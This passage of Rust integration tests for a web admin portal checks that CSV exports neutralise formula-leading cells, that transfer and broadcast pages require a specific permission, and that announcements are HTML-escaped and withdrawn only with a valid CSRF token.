    let s = Server::start().await;
    let admin = admin(&s).await;
    let db = store(&s).await;
    // Each lead character in every text column that comes from a browser.
    let mut cells = Vec::new();
    for (i, lead) in FORMULA_LEADS.iter().enumerate() {
        let v = |col: &str| format!("{lead}{col}{i}");
        let names = [v("sender"), v("receiver"), v("device"), v("file"), v("reason"), v("lab")];
        let refs: [&str; 6] = std::array::from_fn(|k| names[k].as_str());
        insert_transfer(&db, &format!("t{i}"), refs, None).await;
        cells.extend(names);
    }
    assert_neutralised("transfers.csv", &export(&admin, "/admin/transfers.csv").await, &cells);
}

/// The id of the custom role `name`, from the roles page.
async fn role_id(admin: &Browser<'_>, name: &str) -> String {
    let (_, html) = admin.get("/admin/roles").await;
    let row = html.find(&format!("data-role=\"{name}\"")).expect("role listed");
    let start = html[row..].find("action=\"/admin/roles/").unwrap() + row + 21;
    let end = html[start..].find('"').unwrap() + start;
    html[start..end].to_string()
}

#[tokio::test]
async fn transfer_pages_need_more_than_portal_access() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let csrf = admin.csrf().await;
    let db = store(&s).await;
    insert_transfer(&db, "plain1", ["ann", "bob", "pc-1", "notes.pdf", "", "Lab A"], None).await;
    db.exec(&format!(
        "INSERT INTO broadcasts (id, sender_username, target, files, total_bytes, recipients, created_at) \
         VALUES ('bc1', 'prof', '{{\"lab\":\"Lab A\"}}', '[{{\"name\":\"exam.pdf\",\"size\":5}}]', 5, 1, {})",
        harness::now()
    ))
    .await;
    insert_transfer(&db, "bcrow1", ["prof", "stu", "pc-9", "exam.pdf", "", "Lab A"], Some("bc1")).await;

    // A role that may open the portal and nothing else.
    let (status, _, _) = admin.post("/admin/roles", &[("csrf", &csrf), ("name", "viewer")]).await;
    assert_eq!(status, 303);
    let viewer = role_id(&admin, "viewer").await;
    let (status, _, _) =
        admin.post(&format!("/admin/roles/{viewer}"), &[("csrf", &csrf), ("perm_portal.access", "on")]).await;
    assert_eq!(status, 303);
    s.add_user("vic", "viewer");
    let vic = Browser::login(&s, "vic").await;
    let pages = ["/admin/transfers", "/admin/transfers.csv", "/admin/broadcasts", "/admin/broadcasts/bc1"];
    for page in pages {
        let (status, body) = vic.get(page).await;
        assert_eq!(status, 403, "{page}: {body}");
        assert!(!body.contains("notes.pdf") && !body.contains("exam.pdf"), "{page}");
        assert!(body.contains("transfers.view_all"), "{page} names the permission: {body}");
    }
    let (status, dashboard) = vic.get("/admin").await;
    assert_eq!(status, 200);
    assert!(!dashboard.contains("href=\"/admin/transfers\""), "no link to a page that says 403");
    // The API refuses the same data to the same user.
    let token = s.login("vic", PASSWORD).await;
    assert_eq!(s.get("/api/transfers?user=ann", &token).await.0, 403);

    // Admins hold the new permission (the migration granted it) and see everything.
    let (_, roles) = admin.get("/admin/roles").await;
    let admin_row = &roles[roles.find("data-role=\"admin\"").unwrap()..];
    let admin_row = &admin_row[..admin_row.find("</tr>").unwrap()];
    let input = &admin_row[admin_row.find("name=\"perm_transfers.view_all\"").expect("in the matrix")..];
    assert!(input[..input.find('>').unwrap()].contains("checked"), "{admin_row}");
    for page in pages {
        let (status, body) = admin.get(page).await;
        assert_eq!(status, 200, "{page}: {body}");
        assert!(body.contains("notes.pdf") || body.contains("exam.pdf"), "{page}: {body}");
    }

    // Granted to the custom role, it opens the pages.
    let form = [("csrf", csrf.as_str()), ("perm_portal.access", "on"), ("perm_transfers.view_all", "on")];
    let (status, _, _) = admin.post(&format!("/admin/roles/{viewer}"), &form).await;
    assert_eq!(status, 303);
    for page in pages {
        assert_eq!(vic.get(page).await.0, 200, "{page}");
    }
}

#[tokio::test]
async fn announcements_are_listed_and_withdrawn_from_the_portal() {
    let s = Server::start().await;
    let admin = admin(&s).await;
    let now = harness::now();
    let store = s.store().await;
    store
        .exec(&format!(
            "INSERT INTO announcements (id, from_user_id, from_name, lab, text, created_at, expires_at) VALUES \
             (41, NULL, 'Prof', 'Lab 1', 'Bring your <b>ID</b>', {now}, {}), \
             (42, NULL, 'Prof', NULL, 'Old news', {}, {})",
            now + 3600,
            now - 7200,
            now - 3600
        ))
        .await;
    let (status, html) = admin.get("/admin/announcements").await;
    assert_eq!(status, 200, "{html}");
    assert!(html.contains("Bring your &#60;b&#62;ID&#60;/b&#62;"), "escaped: {html}");
    assert!(html.contains(r#"data-announcement-id="41" data-live="true""#), "{html}");
    assert!(html.contains(r#"data-announcement-id="42" data-live="false""#), "{html}");
    let csrf = admin.csrf().await;
    assert_eq!(admin.post("/admin/announcements/41/withdraw", &[("csrf", "forged")]).await.0, 403);
    let (status, location, _) = admin.post("/admin/announcements/41/withdraw", &[("csrf", &csrf)]).await;
    assert_eq!((status, location.starts_with("/admin/announcements?notice=")), (303, true), "{location}");
    assert!(store.int("SELECT expires_at FROM announcements WHERE id = 41").await <= harness::now());
    let (status, _, _) = admin.post("/admin/announcements/41/withdraw", &[("csrf", &csrf)]).await;
    assert_eq!(status, 404, "already withdrawn");
    assert_eq!(store.int("SELECT count(*) FROM audit_log WHERE action = 'announcement.withdraw'").await, 1);
    store.close().await;
}
